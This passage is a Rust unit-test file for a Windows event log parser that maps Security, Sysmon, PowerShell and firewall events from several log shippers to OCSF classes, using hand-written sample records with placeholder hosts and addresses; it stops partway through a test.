use super::*;
use crate::sources::testing;

#[test]
fn round_trip_every_variant() {
    assert_eq!(testing::assert_round_trip(&MicrosoftWindowsEventlog, 0..200), 200 * META.variants.len());
}

#[test]
fn generated_stream_parses_as_one_file() {
    let request = crate::generate::GenerateRequest::new(META.id, 300);
    let text: String = crate::generate::Generator::new(&request).unwrap().map(|event| event.raw + "\n").collect();
    let records = crate::parse::parse_str(META.id, &text, ParseOptions::default()).unwrap();
    assert_eq!(records.len(), 300);
    assert!(records.iter().all(Result::is_ok));
}

#[test]
fn data_names_need_no_escaping() {
    // The writer copies EventData names without escaping them.
    for variant in META.variants {
        let mut request = crate::generate::GenerateRequest::new(META.id, 50);
        request.variant = Some(variant.name.to_string());
        let mut generator = crate::generate::Generator::new(&request).unwrap();
        let mut raw = String::new();
        while generator.next_raw(&mut raw).is_some() {
            for name in generator.fields().names() {
                let plain = name.bytes().all(|byte| byte.is_ascii_graphic() && !b"&<>\"'".contains(&byte));
                assert!(plain, "{}: field name {name:?} needs escaping", variant.name);
            }
        }
    }
}

/// A Remote Desktop logon as `wevtutil qe Security /f:RenderedXml` prints it, pretty-printed.
const RDP_LOGON: &str = r#"<?xml version="1.0" encoding="utf-8"?>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
  <System>
    <Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}" />
    <EventID>4624</EventID>
    <Version>2</Version>
    <Level>0</Level>
    <Task>12544</Task>
    <Opcode>0</Opcode>
    <Keywords>0x8020000000000000</Keywords>
    <TimeCreated SystemTime="2026-02-11T22:41:07.3356741Z" />
    <EventRecordID>881204</EventRecordID>
    <Correlation ActivityID="{7d3a4c55-1b77-0002-614c-3a7d771bdc01}" />
    <Execution ProcessID="788" ThreadID="4120" />
    <Channel>Security</Channel>
    <Computer>SRV-APP02.contoso.test</Computer>
    <Security />
  </System>
  <EventData>
    <Data Name="SubjectUserSid">S-1-5-18</Data>
    <Data Name="SubjectUserName">SRV-APP02$</Data>
    <Data Name="SubjectDomainName">CONTOSO</Data>
    <Data Name="SubjectLogonId">0x3e7</Data>
    <Data Name="TargetUserSid">S-1-5-21-1004336348-1177238915-682003330-1608</Data>
    <Data Name="TargetUserName">r.okafor</Data>
    <Data Name="TargetDomainName">CONTOSO</Data>
    <Data Name="TargetLogonId">0x2c7f1a9</Data>
    <Data Name="LogonType">10</Data>
    <Data Name="LogonProcessName">User32 </Data>
    <Data Name="AuthenticationPackageName">Negotiate</Data>
    <Data Name="WorkstationName">SRV-APP02</Data>
    <Data Name="LogonGuid">{5b0e3f4c-96a1-2d2e-8c77-0f6f1c1c9d21}</Data>
    <Data Name="TransmittedServices">-</Data>
    <Data Name="LmPackageName">-</Data>
    <Data Name="KeyLength">0</Data>
    <Data Name="ProcessId">0x1f4c</Data>
    <Data Name="ProcessName">C:\Windows\System32\svchost.exe</Data>
    <Data Name="IpAddress">198.51.100.23</Data>
    <Data Name="IpPort">0</Data>
    <Data Name="ImpersonationLevel">%%1833</Data>
    <Data Name="RestrictedAdminMode">%%1843</Data>
    <Data Name="TargetOutboundUserName">-</Data>
    <Data Name="TargetOutboundDomainName">-</Data>
    <Data Name="VirtualAccount">%%1843</Data>
    <Data Name="TargetLinkedLogonId">0x0</Data>
    <Data Name="ElevatedToken">%%1843</Data>
  </EventData>
  <RenderingInfo Culture="en-US">
    <Message>An account was successfully logged on.</Message>
    <Level>Information</Level>
    <Task>Logon</Task>
    <Opcode>Info</Opcode>
    <Channel>Security</Channel>
    <Provider>Microsoft Windows security auditing.</Provider>
    <Keywords>
      <Keyword>Audit Success</Keyword>
    </Keywords>
  </RenderingInfo>
</Event>
"#;

#[test]
fn pretty_printed_rdp_logon_maps_to_authentication() {
    let records = testing::assert_parses(META.id, RDP_LOGON);
    assert_eq!(records.len(), 1);
    let record = &records[0];
    assert_eq!(record.parsed.variant, Some("4624_remote_interactive"));
    assert_eq!(record.parsed.fields["EventRecordID"], 881204);
    assert_eq!(record.parsed.fields["RenderingInfo.Keywords"], "Audit Success");
    let ocsf = &record.ocsf;
    assert_eq!(ocsf["class_uid"], 3002);
    assert_eq!(ocsf["activity_id"], 1);
    assert_eq!(ocsf["status_id"], 1);
    assert_eq!(ocsf["logon_type_id"], 10);
    assert_eq!(ocsf["is_remote"], true);
    assert_eq!(ocsf["user"]["name"], "r.okafor");
    assert_eq!(ocsf["user"]["domain"], "CONTOSO");
    assert_eq!(ocsf["actor"]["user"]["name"], "SRV-APP02$");
    assert_eq!(ocsf["src_endpoint"]["ip"], "198.51.100.23");
    assert_eq!(ocsf["device"]["hostname"], "SRV-APP02.contoso.test");
    assert_eq!(ocsf["message"], "An account was successfully logged on.");
    assert_eq!(ocsf["time"], 1_770_849_667_335_i64);
}

/// Hand-written events in the layouts Windows and the agents produce, with the variant and
/// the OCSF class and activity they must map to.
const TABLE: &[(&str, &str, Option<&str>, u64, u64)] = &[
    (
        "4625 locked out, single quotes, one line",
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-A5BA-3E3B0328C30D}'/><EventID>4625</EventID><Version>0</Version><Level>0</Level><Task>12544</Task><Opcode>0</Opcode><Keywords>0x8010000000000000</Keywords><TimeCreated SystemTime='2026-03-02T07:15:44.901224600Z'/><EventRecordID>55120</EventRecordID><Correlation/><Execution ProcessID='656' ThreadID='2212'/><Channel>Security</Channel><Computer>WS-0412.corp.test</Computer><Security/></System><EventData><Data Name='SubjectUserSid'>S-1-0-0</Data><Data Name='SubjectUserName'>-</Data><Data Name='SubjectDomainName'>-</Data><Data Name='SubjectLogonId'>0x0</Data><Data Name='TargetUserSid'>S-1-0-0</Data><Data Name='TargetUserName'>j.meyer</Data><Data Name='TargetDomainName'>CORP</Data><Data Name='Status'>0xc0000234</Data><Data Name='FailureReason'>%%2307</Data><Data Name='SubStatus'>0x0</Data><Data Name='LogonType'>3</Data><Data Name='LogonProcessName'>NtLmSsp </Data><Data Name='AuthenticationPackageName'>NTLM</Data><Data Name='WorkstationName'>-</Data><Data Name='TransmittedServices'>-</Data><Data Name='LmPackageName'>-</Data><Data Name='KeyLength'>0</Data><Data Name='ProcessId'>0x0</Data><Data Name='ProcessName'>-</Data><Data Name='IpAddress'>203.0.113.77</Data><Data Name='IpPort'>0</Data></EventData></Event>",
        Some("4625"),
        3002,
        1,
    ),
    (
        "4688 with quotes and entities in the command line",
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-A5BA-3E3B0328C30D}'/><EventID>4688</EventID><Version>2</Version><Level>0</Level><Task>13312</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='2026-03-02T07:16:02.000000000Z'/><EventRecordID>55131</EventRecordID><Correlation/><Execution ProcessID='4' ThreadID='9120'/><Channel>Security</Channel><Computer>WS-0412.corp.test</Computer><Security/></System><EventData><Data Name='SubjectUserSid'>S-1-5-21-3623811015-3361044348-30300820-1013</Data><Data Name='SubjectUserName'>j.meyer</Data><Data Name='SubjectDomainName'>CORP</Data><Data Name='SubjectLogonId'>0x5c3a21</Data><Data Name='NewProcessId'>0x2a08</Data><Data Name='NewProcessName'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='TokenElevationType'>%%1938</Data><Data Name='ProcessId'>0x1b30</Data><Data Name='CommandLine'>cmd.exe /c &quot;echo a &amp;&amp; type C:\\Temp\\x.txt &gt; nul&quot;</Data><Data Name='TargetUserSid'>S-1-0-0</Data><Data Name='TargetUserName'>-</Data><Data Name='TargetDomainName'>-</Data><Data Name='TargetLogonId'>0x0</Data><Data Name='ParentProcessName'>C:\\Windows\\explorer.exe</Data><Data Name='MandatoryLabel'>S-1-16-8192</Data></EventData></Event>",
        Some("4688"),
        1007,
        1,
    ),
    (
        "1102 with UserData",
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Eventlog' Guid='{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}'/><EventID>1102</EventID><Version>0</Version><Level>4</Level><Task>104</Task><Opcode>0</Opcode><Keywords>0x4020000000000000</Keywords><TimeCreated SystemTime='2026-03-02T08:00:00.500000000Z'/><EventRecordID>1</EventRecordID><Correlation/><Execution ProcessID='1236' ThreadID='6500'/><Channel>Security</Channel><Computer>SRV-FS01.corp.test</Computer><Security/></System><UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'><SubjectUserSid>S-1-5-21-3623811015-3361044348-30300820-500</SubjectUserSid><SubjectUserName>Administrator</SubjectUserName><SubjectDomainName>CORP</SubjectDomainName><SubjectLogonId>0x1c44e2</SubjectLogonId></LogFileCleared></UserData></Event>",
        Some("1102"),
        1008,
        1,
    ),
    (
        "4732 member added to Administrators",
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-A5BA-3E3B0328C30D}'/><EventID>4732</EventID><Version>0</Version><Level>0</Level><Task>13826</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='2026-03-02T08:05:00.000000000Z'/><EventRecordID>90211</EventRecordID><Correlation/><Execution ProcessID='704' ThreadID='812'/><Channel>Security</Channel><Computer>DC1.corp.test</Computer><Security/></System><EventData><Data Name='MemberName'>CN=Jan Meyer,OU=Staff,DC=corp,DC=test</Data><Data Name='MemberSid'>S-1-5-21-3623811015-3361044348-30300820-1013</Data><Data Name='TargetUserName'>Administrators</Data><Data Name='TargetDomainName'>Builtin</Data><Data Name='TargetSid'>S-1-5-32-544</Data><Data Name='SubjectUserSid'>S-1-5-21-3623811015-3361044348-30300820-500</Data><Data Name='SubjectUserName'>Administrator</Data><Data Name='SubjectDomainName'>CORP</Data><Data Name='SubjectLogonId'>0x1c44e2</Data><Data Name='PrivilegeList'>-</Data></EventData></Event>",
        Some("4732"),
        3006,
        3,
    ),
    (
        "Winlogbeat 8 rendering of 4720",
        r#"{"@timestamp":"2026-03-02T09:00:01.456Z","event":{"code":"4720","provider":"Microsoft-Windows-Security-Auditing","action":"added-user-account","outcome":"success"},"host":{"name":"dc1.corp.test"},"log":{"level":"information"},"message":"A user account was created.","winlog":{"channel":"Security","computer_name":"DC1.corp.test","event_id":"4720","provider_name":"Microsoft-Windows-Security-Auditing","provider_guid":"{54849625-5478-4994-a5ba-3e3b0328c30d}","record_id":90300,"process":{"pid":704,"thread":{"id":1400}},"task":"User Account Management","opcode":"Info","keywords":["Audit Success"],"event_data":{"TargetUserName":"t.nguyen","TargetDomainName":"CORP","TargetSid":"S-1-5-21-3623811015-3361044348-30300820-1301","SubjectUserSid":"S-1-5-21-3623811015-3361044348-30300820-500","SubjectUserName":"Administrator","SubjectDomainName":"CORP","SubjectLogonId":"0x1c44e2","SamAccountName":"t.nguyen","DisplayName":"Thi Nguyen","UserPrincipalName":"t.nguyen@corp.test"}}}"#,
        Some("4720"),
        3001,
        1,
    ),
    (
        "NXLog im_msvistalog rendering of 4634",
        r#"{"EventTime":"2026-03-02 09:10:11","Hostname":"WS-0412.corp.test","Keywords":-9214364837600034816,"EventType":"AUDIT_SUCCESS","SeverityValue":2,"Severity":"INFO","EventID":4634,"SourceName":"Microsoft-Windows-Security-Auditing","ProviderGuid":"{54849625-5478-4994-A5BA-3E3B0328C30D}","Version":0,"Task":12545,"OpcodeValue":0,"RecordNumber":55302,"ProcessID":656,"ThreadID":7780,"Channel":"Security","Message":"An account was logged off.","Category":"Logoff","Opcode":"Info","TargetUserSid":"S-1-5-21-3623811015-3361044348-30300820-1013","TargetUserName":"j.meyer","TargetDomainName":"CORP","TargetLogonId":"0x5c3a21","LogonType":"2","EventReceivedTime":"2026-03-02 09:10:12","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}"#,
        Some("4634"),
        3002,
        2,
    ),
    (
        "Azure diagnostics record with RawXml",
        r#"{"category":"WindowsEventLogsTable","level":"Informational","time":"2026-03-02T09:20:00.000Z","properties":{"Channel":"Security","EventId":4672,"RawXml":"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-A5BA-3E3B0328C30D}'/><EventID>4672</EventID><Version>0</Version><Level>0</Level><Task>12548</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='2026-03-02T09:20:00.000000000Z'/><EventRecordID>7781</EventRecordID><Correlation/><Execution ProcessID='640' ThreadID='700'/><Channel>Security</Channel><Computer>VM-WEB1</Computer><Security/></System><EventData><Data Name='SubjectUserSid'>S-1-5-18</Data><Data Name='SubjectUserName'>SYSTEM</Data><Data Name='SubjectDomainName'>NT AUTHORITY</Data><Data Name='SubjectLogonId'>0x3e7</Data><Data Name='PrivilegeList'>SeAssignPrimaryTokenPrivilege&#xD;&#xA;&#x9;&#x9;&#x9;SeTcbPrivilege</Data></EventData></Event>"}}"#,
        Some("4672"),
        3003,
        1,
    ),
    (
        "Splunk HEC event carrying the XML",
        r#"{"time":1772442000,"host":"WS-0412","sourcetype":"XmlWinEventLog","event":"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4776</EventID><Version>0</Version><Level>0</Level><Task>14336</Task><Opcode>0</Opcode><Keywords>0x8010000000000000</Keywords><TimeCreated SystemTime='2026-03-02T09:30:00.000000000Z'/><EventRecordID>4410</EventRecordID><Correlation/><Execution ProcessID='640' ThreadID='700'/><Channel>Security</Channel><Computer>DC1.corp.test</Computer><Security/></System><EventData><Data Name='PackageName'>MICROSOFT_AUTHENTICATION_PACKAGE_V1_0</Data><Data Name='TargetUserName'>j.meyer</Data><Data Name='Workstation'>WS-0412</Data><Data Name='Status'>0xc000006a</Data></EventData></Event>"}"#,
        Some("4776"),
        3002,
        1,
    ),
    (
        "Sysmon process creation maps to Process Activity",
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2026-03-02T09:31:00.000000000Z'/><EventRecordID>120</EventRecordID><Correlation/><Execution ProcessID='2980' ThreadID='3712'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS-0412.corp.test</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='Image'>C:\\Windows\\System32\\whoami.exe</Data></EventData></Event>",
        None,
        1007,
        1,
    ),
];

#[test]
fn hand_written_events_parse() {
    for (name, text, variant, class_uid, activity_id) in TABLE {
        let records = testing::assert_parses(META.id, text);
        assert_eq!(records.len(), 1, "{name}");
        let record = &records[0];
        assert_eq!(record.parsed.variant, *variant, "{name}");
        assert_eq!(record.ocsf["class_uid"], *class_uid, "{name}");
        assert_eq!(record.ocsf["activity_id"], *activity_id, "{name}");
    }
}

#[test]
fn agent_renderings_use_xml_field_names() {
    let winlogbeat = testing::assert_parses(META.id, TABLE[4].1);
    let fields = &winlogbeat[0].parsed.fields;
    assert_eq!(fields["EventID"], 4720);
    assert_eq!(fields["Computer"], "DC1.corp.test");
    assert_eq!(fields["Execution.ProcessID"], 704);
    assert_eq!(fields["EventData.DisplayName"], "Thi Nguyen");
    assert_eq!(winlogbeat[0].ocsf["user"]["name"], "t.nguyen");
    assert_eq!(winlogbeat[0].ocsf["actor"]["user"]["name"], "Administrator");

    let nxlog = testing::assert_parses(META.id, TABLE[5].1);
    let fields = &nxlog[0].parsed.fields;
    assert_eq!(fields["Keywords"], "0x8020000000000000");
    assert_eq!(fields["Execution.ProcessID"], 656);
    assert_eq!(fields["EventData.LogonType"], "2");
    assert!(!fields.contains_key("EventData.SourceModuleName"));

    let azure = testing::assert_parses(META.id, TABLE[6].1);
    assert_eq!(azure[0].ocsf["privileges"], serde_json::json!(["SeAssignPrimaryTokenPrivilege", "SeTcbPrivilege"]));
}

#[test]
fn failed_ntlm_validation_reports_status() {
    let records = testing::assert_parses(META.id, TABLE[7].1);
    assert_eq!(records[0].ocsf["status_id"], 2);
    assert_eq!(records[0].ocsf["status_code"], "0xc000006a");
    assert_eq!(records[0].ocsf["auth_protocol_id"], 1);
}

#[test]
fn events_sharing_lines_split() {
    let one = TABLE[0].1;
    let two = TABLE[1].1;
    let text = format!("<Events>{one}{two}\n</Events>\n<!-- exported by wevtutil -->\n");
    let records = testing::assert_parses(META.id, &text);
    let ids: Vec<_> = records.iter().map(|r| r.parsed.fields["EventID"].clone()).collect();
    assert_eq!(ids, [4625, 4688]);
}

#[test]
fn zoneless_agent_time_gives_way_to_sysmon_utc_time() {
    // NXLog writes EventTime in the agent's local time zone, here UTC+1.
    let nxlog = r#"{"EventTime":"2026-01-05 10:00:01","Hostname":"ws01.corp.example","EventID":11,"SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","UtcTime":"2026-01-05 09:00:01.250","Image":"C:\\Windows\\explorer.exe","TargetFilename":"C:\\Users\\maria\\report.docx"}"#;
    let records = testing::assert_parses(META.id, nxlog);
    let expected = crate::timestamp::Timestamp::from_civil(2026, 1, 5, 9, 0, 1, 250_000_000);
    assert_eq!(records[0].ocsf["time"], expected.millis());

    let zoned = nxlog.replace("2026-01-05 10:00:01", "2026-01-05T09:00:03Z");
    let records = testing::assert_parses(META.id, &zoned);
    let expected = crate::timestamp::Timestamp::from_civil(2026, 1, 5, 9, 0, 3, 0);
    assert_eq!(records[0].ocsf["time"], expected.millis(), "a time with a zone is kept");
}

#[test]
fn shipper_timestamp_dates_flat_records() {
    let shipped = r#"{"@timestamp":"2026-02-03T11:22:33.444Z","@version":"1","Hostname":"FS01.lab.example","EventID":4663,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","SubjectUserName":"h.lind","SubjectDomainName":"LAB","ObjectType":"Key","ObjectName":"\\REGISTRY\\MACHINE\\SOFTWARE\\Lab","AccessMask":"0x1"}"#;
    let ocsf = only_record(shipped);
    let expected = crate::timestamp::parse_rfc3339("2026-02-03T11:22:33.444Z").unwrap();
    assert_eq!(ocsf["time"], expected.millis());
    assert!(ocsf["unmapped"].get("@timestamp").is_none(), "the shipper's time is no EventData item");

    // The record's own EventTime wins over the time the shipper added.
    let own_time = shipped.replace(r#""Hostname""#, r#""EventTime":"2026-02-03T11:20:00Z","Hostname""#);
    let expected = crate::timestamp::parse_rfc3339("2026-02-03T11:20:00Z").unwrap();
    assert_eq!(only_record(&own_time)["time"], expected.millis());
}

#[test]
fn event_without_time_created_takes_received_time() {
    let text = "<Event><System><EventID>4625</EventID><Computer>ws01.corp.example</Computer></System><EventData>\
                <Data Name='TargetUserName'>bob</Data><Data Name='IpAddress'>10.0.0.5</Data><Data Name='LogonType'>3</Data></EventData></Event>";
    let err = testing::assert_rejected(META.id, text);
    assert!(err.reason.contains("received time"), "{err}");

    let records = testing::assert_parses_with(META.id, text, testing::received_at_start());
    assert_eq!(records[0].ocsf["time"], crate::generate::default_start().millis());
    assert_eq!(records[0].ocsf["class_uid"], 3002);
}

#[test]
fn malformed_events_are_rejected() {
    let cases: &[(&str, &str)] = &[
        ("unterminated event", "<Event><System><EventID>4624</EventID></System>"),
        ("mismatched end tag", "<Event><System><EventID>4624</EventID></Sys></Event>"),
        ("plain text", "An account was successfully logged on."),
        ("JSON without an event", r#"{"user":"bob","action":"login"}"#),
        ("no TimeCreated", "<Event><System><EventID>4624</EventID></System></Event>"),
        (
            "EventID not a number",
            "<Event><System><EventID>logon</EventID><TimeCreated SystemTime='2026-01-05T09:00:00Z'/></System></Event>",
        ),
        ("wrong root element", "<Evnt><System/></Evnt>"),
    ];
    for (name, text) in cases {
        let err = testing::assert_rejected(META.id, text);
        assert!(!err.reason.is_empty(), "{name}");
    }
}

#[test]
fn corpus_samples_parse() {
    let mut samples = testing::corpus_folder("tenzir/microsoft/tests/inputs", ".xml");
    samples.extend(testing::corpus_folder("tenzir/sysmon/tests/inputs", ".xml"));
    for folder in ["Windows/windows", "Beats/winlogbeat", "Azure/azure-windows", "Log Insight Windows/log-insight-windows"] {
        samples.extend(testing::sekoia_samples(folder));
    }
    samples.extend(testing::corpus_files(&[
        "ocsf-examples/mappings/markdown/Microsoft/Windows Defender/1116.xml",
        "ocsf-examples/mappings/markdown/Microsoft/Windows Events/4624/4624_0.event",
        "ocsf-examples/mappings/markdown/Microsoft/Windows Events/4625/4625_0.event",
        "ocsf-examples/mappings/markdown/Microsoft/Windows Events/4688/4688_0.event",
    ]));
    if samples.is_empty() {
        println!("corpus not found; skipping");
        return;
    }
    let (passed, total) = testing::corpus_pass_rate(META.id, &samples);
    // The misses are lines that contain only a localized rendered message without an event id,
    // and an NXLog record with a stray character before its `{` and no EventID.
    assert!(passed * 100 >= total * 90, "{passed}/{total}");
}

/// Wraps EventData items in a one-line event of `provider` in `channel`, with an optional
/// `Security UserID`.
fn xml_event(provider: &str, channel: &str, id: u32, user_sid: Option<&str>, data: &str) -> String {
    let security = match user_sid {
        Some(sid) => format!("<Security UserID='{sid}'/>"),
        None => "<Security/>".to_string(),
    };
    format!(
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='{provider}'/>\
         <EventID>{id}</EventID><Version>0</Version><Level>4</Level><Task>0</Task><Opcode>0</Opcode>\
         <Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='2026-03-02T10:00:00.000000000Z'/>\
         <EventRecordID>7001</EventRecordID><Correlation/><Execution ProcessID='4' ThreadID='96'/><Channel>{channel}</Channel>\
         <Computer>WS-0412.corp.test</Computer>{security}</System><EventData>{data}</EventData></Event>"
    )
}

fn security_event(id: u32, data: &str) -> String {
    xml_event("Microsoft-Windows-Security-Auditing", "Security", id, None, data)
}

fn only_record(text: &str) -> serde_json::Map<String, Value> {
    let mut records = testing::assert_parses(META.id, text);
    assert_eq!(records.len(), 1, "{text}");
    records.remove(0).ocsf.into_map()
}

const SUBJECT: &str = "<Data Name='SubjectUserSid'>S-1-5-21-3623811015-3361044348-30300820-1013</Data>\
                       <Data Name='SubjectUserName'>j.meyer</Data><Data Name='SubjectDomainName'>CORP</Data>\
                       <Data Name='SubjectLogonId'>0x5c3a21</Data>";

#[test]
fn subject_of_any_security_event_is_actor() {
    // Object access, registry, directory service and system time events have no class
    // mapping of their own, but name the acting account in the Subject fields.
    for id in [4663, 4657, 5136, 4616] {
        let text = security_event(id, &format!("{SUBJECT}<Data Name='ObjectName'>C:\\Finance\\q1.xlsx</Data>"));
        let ocsf = only_record(&text);
        let actor = &ocsf["actor"]["user"];
        assert_eq!(actor["name"], "j.meyer", "{id}");
        assert_eq!(actor["domain"], "CORP", "{id}");
        assert_eq!(actor["uid"], "S-1-5-21-3623811015-3361044348-30300820-1013", "{id}");
    }
}

#[test]
fn sysmon_user_is_actor_not_service_account() {
    let data = "<Data Name='UtcTime'>2026-03-02 10:00:00.000</Data><Data Name='Image'>C:\\Windows\\System32\\whoami.exe</Data>\
                <Data Name='User'>CORP\\j.meyer</Data><Data Name='ParentUser'>CORP\\j.meyer</Data>";
    let text = xml_event("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1, Some("S-1-5-18"), data);
    let ocsf = only_record(&text);
    assert_eq!(ocsf["actor"]["user"]["name"], "j.meyer");
    assert_eq!(ocsf["actor"]["user"]["domain"], "CORP");
    assert!(ocsf["actor"]["user"].get("uid").is_none(), "S-1-5-18 is the account of the Sysmon service");

    // Without a User item (event 10 of older schemas) the Security element names the account.
    let text = xml_event("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 10, Some("S-1-5-18"), "");
    assert_eq!(only_record(&text)["actor"]["user"]["uid"], "S-1-5-18");
}

#[test]
fn powershell_context_names_the_user() {
    let context = "        Severity = Informational\n        Host Name = ConsoleHost\n        User = CORP\\j.meyer\n        Connected User = \n";
    let data = format!("<Data Name='ContextInfo'>{context}</Data><Data Name='UserData'></Data><Data Name='Payload'>CommandInvocation(Get-Item)</Data>");
    let sid = "S-1-5-21-3623811015-3361044348-30300820-1013";
    let text = xml_event("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4103, Some(sid), &data);
    let ocsf = only_record(&text);
    assert_eq!(ocsf["actor"]["user"]["name"], "j.meyer");
    assert_eq!(ocsf["actor"]["user"]["domain"], "CORP");

    // Classic event 800 keeps the context as `UserId=` in its second unnamed Data item.
    let details = "DetailSequence=1\n\tUserId=CORP\\a.okafor\n\tHostName=ConsoleHost";
    let data = format!("<Data>Get-Item C:\\</Data><Data>{details}</Data><Data>CommandInvocation(Get-Item)</Data>");
    let text = xml_event("PowerShell", "Windows PowerShell", 800, None, &data);
    assert_eq!(only_record(&text)["actor"]["user"]["name"], "a.okafor");
}

#[test]
fn filtering_platform_connection_maps_to_network_activity() {
    let data = "<Data Name='ProcessID'>1932</Data><Data Name='Application'>\\device\\harddiskvolume2\\program files\\app\\app.exe</Data>\
                <Data Name='Direction'>%%14593</Data><Data Name='SourceAddress'>192.0.2.15</Data><Data Name='SourcePort'>50412</Data>\
                <Data Name='DestAddress'>198.51.100.80</Data><Data Name='DestPort'>443</Data><Data Name='Protocol'>6</Data>\
                <Data Name='FilterRTID'>0</Data><Data Name='LayerName'>%%14611</Data><Data Name='LayerRTID'>48</Data>";
    let ocsf = only_record(&security_event(5156, data));
    assert_eq!(ocsf["class_uid"], 4001);
    assert_eq!(ocsf["activity_id"], 1);
    assert_eq!(ocsf["action_id"], 1);
    assert_eq!(ocsf["src_endpoint"]["ip"], "192.0.2.15");
    assert_eq!(ocsf["src_endpoint"]["port"], 50412);
    assert_eq!(ocsf["dst_endpoint"]["ip"], "198.51.100.80");
    assert_eq!(ocsf["dst_endpoint"]["port"], 443);
    assert_eq!(ocsf["connection_info"]["direction_id"], 2);
    assert_eq!(ocsf["connection_info"]["protocol_num"], 6);
    assert_eq!(ocsf["actor"]["process"]["name"], "app.exe");

    let blocked = only_record(&security_event(5157, data));
    assert_eq!(blocked["activity_id"], 5);
    assert_eq!(blocked["action_id"], 2);
}

#[test]
fn inbound_filtering_platform_connection_swaps_ends() {
    // For inbound connections the event names the local listener Source and the remote
    // client Destination.
    let data = "<Data Name='ProcessID'>1044</Data><Data Name='Application'>\\device\\harddiskvolume2\\windows\\system32\\svchost.exe</Data>\
                <Data Name='Direction'>%%14592</Data><Data Name='SourceAddress'>192.0.2.15</Data><Data Name='SourcePort'>3389</Data>\
                <Data Name='DestAddress'>203.0.113.61</Data><Data Name='DestPort'>55120</Data><Data Name='Protocol'>6</Data>\
                <Data Name='FilterRTID'>0</Data><Data Name='LayerName'>%%14610</Data><Data Name='LayerRTID'>44</Data>";
    for id in [5156, 5157] {
        let ocsf = only_record(&security_event(id, data));
        assert_eq!(ocsf["connection_info"]["direction_id"], 1, "{id}");
        assert_eq!(ocsf["src_endpoint"]["ip"], "203.0.113.61", "{id}");
        assert_eq!(ocsf["src_endpoint"]["port"], 55120, "{id}");
        assert_eq!(ocsf["dst_endpoint"]["ip"], "192.0.2.15", "{id}");
        assert_eq!(ocsf["dst_endpoint"]["port"], 3389, "{id}");
    }

    // The classic text rendering writes the direction as the word Inbound.
    let classic = "03/02/2026 10:00:00 AM\nLogName=Security\nEventCode=5156\nComputerName=WS-0412.corp.test\n\
                   Message=The Windows Filtering Platform has permitted a connection.\n\nNetwork Information:\n\tDirection:\t\tInbound\n\
                   \tSource Address:\t\t192.0.2.15\n\tSource Port:\t\t3389\n\tDestination Address:\t203.0.113.61\n\
                   \tDestination Port:\t\t55120\n\tProtocol:\t\t6\n";
    let ocsf = only_record(classic);
    assert_eq!(ocsf["src_endpoint"]["ip"], "203.0.113.61");
    assert_eq!(ocsf["dst_endpoint"]["port"], 3389);
}

#[test]
fn share_access_keeps_client_address() {
    let data = format!(
        "{SUBJECT}<Data Name='ObjectType'>File</Data><Data Name='IpAddress'>2001:db8::15</Data><Data Name='IpPort'>49822</Data>\
         <Data Name='ShareName'>\\\\*\\Finance</Data><Data Name='ShareLocalPath'>\\??\\D:\\Finance</Data>\
         <Data Name='RelativeTargetName'>2026\\q1.xlsx</Data><Data Name='AccessMask'>0x120089</Data>"
    );
    let ocsf = only_record(&security_event(5145, &data));
    assert_eq!(ocsf["class_uid"], 4006);
    assert_eq!(ocsf["src_endpoint"]["ip"], "2001:db8::15");
    assert_eq!(ocsf["src_endpoint"]["port"], 49822);
    assert_eq!(ocsf["share"], "\\\\*\\Finance");
    assert_eq!(ocsf["file"]["name"], "q1.xlsx");
    assert_eq!(ocsf["actor"]["user"]["name"], "j.meyer");
}

#[test]
fn radius_request_maps_to_authentication() {
    let data = "<Data Name='SubjectUserSid'>S-1-5-21-3623811015-3361044348-30300820-1013</Data><Data Name='SubjectUserName'>j.meyer</Data>\
                <Data Name='SubjectDomainName'>CORP</Data><Data Name='FullyQualifiedSubjectUserName'>corp.test/Staff/Jan Meyer</Data>\
                <Data Name='CalledStationID'>198.51.100.1</Data><Data Name='CallingStationID'>203.0.113.45</Data>\
                <Data Name='NASIPv4Address'>198.51.100.1</Data><Data Name='ClientName'>VPN-GW1</Data><Data Name='ClientIPAddress'>198.51.100.1</Data>\
                <Data Name='AuthenticationServer'>nps1.corp.test</Data><Data Name='AuthenticationType'>MS-CHAPv2</Data>\
